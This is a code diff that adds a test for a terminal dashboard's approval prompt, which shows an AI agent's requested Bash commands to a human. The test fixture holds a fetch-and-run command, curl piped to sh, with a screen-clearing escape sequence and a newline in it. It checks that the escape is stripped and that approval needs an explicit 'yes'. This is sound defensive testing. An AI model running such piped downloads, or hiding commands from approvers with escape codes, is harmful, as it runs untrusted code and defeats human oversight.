@@ -19,6 +19,7 @@ from thopter.cli import top_view
 from thopter.cli.top_app import TopApp, about
 from thopter.mesh.client import HubClient
 from thopter.model.api import ThopterDetail, ThopterView
+from thopter.model.api.approvals import Approval
 from thopter.model.nouns import Entry, Role
 
 pytestmark = pytest.mark.timeout(200)
@@ -160,6 +161,44 @@ def test_what_a_box_says_is_safe_on_the_screen() -> None:
     entry = Entry(session="s", key="k", at_ms=T, role=Role.ASSISTANT, summary="\x1b[31mred\nline")
     for line in about(ThopterDetail(view=evil), [entry], T):
         assert line.isprintable()
+
+
+def approval(**more: Any) -> Approval:
+    given: dict[str, Any] = {
+        "id": "apr_0000abcdef", "name": "blue-wren", "box": "box_1", "run": "run_1", "kind": "permission",
+        "tool": "Bash", "summary": "Bash: curl", "digest": "d", "state": "open",
+        "asked_ms": T, "changed_ms": T,
+        "input": {"command": "curl -s x |\x1b[2J sh\nsecond line"}, **more,
+    }  # fmt: skip
+    return Approval(**given)
+
+
+def test_what_is_approved_stands_whole_on_the_screen_and_wants_a_yes(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("thopter.cli.top_app.feed", lambda *a: None)
+    given: list[Any] = []
+    monkeypatch.setattr(TopApp, "_do", lambda _self, done, call: given.append(done))
+
+    async def go(app: TopApp, pilot: Any) -> None:
+        app.show(SOME)
+        app._show_asked("blue-wren", "approve", [approval()])
+        await pilot.pause()
+        shown = str(app.query_one("#about", Static).content)
+        assert "curl -s x | sh" in shown and "second line" in shown and "\x1b" not in shown
+        await pilot.press(*"no", "enter")
+        assert given == [] and app._approval is None
+        app._show_asked("blue-wren", "approve", [approval()])
+        await pilot.press(*"yes", "enter")
+        assert given == ["blue-wren has your answer"]
+        app._show_asked("blue-wren", "deny", [approval()])
+        await pilot.press("enter")
+        assert len(given) == 2
+        app._show_asked("blue-wren", "approve", [approval(kind="question", input={})])
+        await pilot.press("enter")  # no answer is no answer
+        assert len(given) == 2
+        app._show_asked("blue-wren", "approve", [])
+        await until(pilot, lambda: any("asks for nothing" in n.message for n in app._notifications))
+
+    run(go, size=(100, 30))
 
 
 def test_it_lives_by_events_and_keys_do_what_they_say(own: HubProcess) -> None:
